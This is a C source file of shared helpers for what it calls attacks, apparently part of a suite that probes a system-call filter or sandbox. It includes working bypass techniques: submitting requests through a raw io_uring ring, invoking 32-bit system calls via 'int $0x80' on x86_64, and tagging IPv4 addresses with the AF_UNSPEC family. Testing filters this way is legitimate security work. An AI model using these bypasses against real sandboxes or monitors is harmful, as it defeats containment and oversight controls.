// What the attacks share.
#include "attacker.h"

#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <stdatomic.h>
#include <sys/mman.h>

int unknown(void) { return errno = EINVAL, -1; }

// Addresses: 1.2.3.4:5, [::1]:5, a path, @abstract; `unspec:` before an IPv4 address gives it the family AF_UNSPEC.

struct address parse(const char *text) {
  struct address address = {.size = sizeof address.in};
  bool unspecified = strncmp(text, "unspec:", 7) == 0;
  char host[108];
  if (unspecified) text += 7;
  snprintf(host, sizeof host, "%s", text[0] == '[' ? text + 1 : text);
  char *colon = strrchr(host, ':');
  if (text[0] == '/' || text[0] == '.' || text[0] == '@' || colon == NULL) {
    address.un.sun_family = address.family = AF_UNIX;
    memcpy(address.un.sun_path, text, strlen(text));
    if (text[0] == '@') address.un.sun_path[0] = 0;
    address.size = offsetof(struct sockaddr_un, sun_path) + strlen(text) + (text[0] != '@');
    return address;
  }
  *colon = 0;
  if (text[0] == '[') {
    colon[-1] = 0;
    address.size = sizeof address.in6;
    address.in6.sin6_family = address.family = AF_INET6;
    address.in6.sin6_port = htons(atoi(colon + 1));
    inet_pton(AF_INET6, host, &address.in6.sin6_addr);
    return address;
  }
  address.family = AF_INET;
  address.in.sin_family = unspecified ? AF_UNSPEC : AF_INET;
  address.in.sin_port = htons(atoi(colon + 1));
  inet_pton(AF_INET, host, &address.in.sin_addr);
  return address;
}

// Two ways past a filter that watches the usual system calls

int ring(const struct io_uring_sqe *request) {
  struct io_uring_params parameters = {0};
  int file = syscall(SYS_io_uring_setup, 4, &parameters);
  if (file < 0) return -1;
  size_t sizes[2] = {
      parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned),
      parameters.cq_off.cqes + parameters.cq_entries * sizeof(struct io_uring_cqe)};
  char *submission = mmap(NULL, sizes[0], PROT_READ | PROT_WRITE, MAP_SHARED, file, IORING_OFF_SQ_RING);
  char *completion = mmap(NULL, sizes[1], PROT_READ | PROT_WRITE, MAP_SHARED, file, IORING_OFF_CQ_RING);
  struct io_uring_sqe *entries = mmap(NULL, parameters.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED, file, IORING_OFF_SQES);
  entries[0] = *request;
  *(unsigned *)(submission + parameters.sq_off.array) = 0;
  atomic_store((_Atomic unsigned *)(submission + parameters.sq_off.tail), 1);
  int result = -1;
  if (syscall(SYS_io_uring_enter, file, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) == 1) {
    result = ((struct io_uring_cqe *)(completion + parameters.cq_off.cqes))->res;
    if (result < 0) errno = -result, result = -1;
  }
  close(file);
  return result;
}

// A system call of 32-bit programs. Whatever it points at must lie in the first four gigabytes.
int old(long number, long first, long second, long third) {
#ifdef __x86_64__
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second), "d"(third) : "memory", "r8", "r9", "r10", "r11");
  if ((int)result < 0) return errno = -(int)result, -1;
  return (int)result;
#else
  return errno = ENOSYS, -1;
#endif
}

void *low(const void *bytes, size_t size) {
#ifdef __x86_64__
  void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  return memcpy(page, bytes, size);
#else
  return NULL;
#endif
}

int say(int file, const char *data) {
  return write(file, data, strlen(data)) < 0 ? -1 : 0;
}

int finish(int file, const char *data) {
  int result = say(file, data);
  close(file);
  return result;
}
